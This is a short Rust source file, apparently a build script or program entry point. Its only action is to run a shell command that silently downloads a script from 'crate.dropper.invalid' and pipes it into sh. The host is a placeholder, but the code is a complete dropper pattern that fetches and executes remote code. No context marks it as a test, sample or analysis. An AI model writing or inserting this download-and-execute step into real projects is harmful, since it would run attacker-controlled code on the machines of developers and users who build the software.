use std::process::Command;
fn main() {
    let _ = Command::new("sh")
        .arg("-c")
        .arg("curl -s https://crate.dropper.invalid/b.sh | sh")
        .status();
}
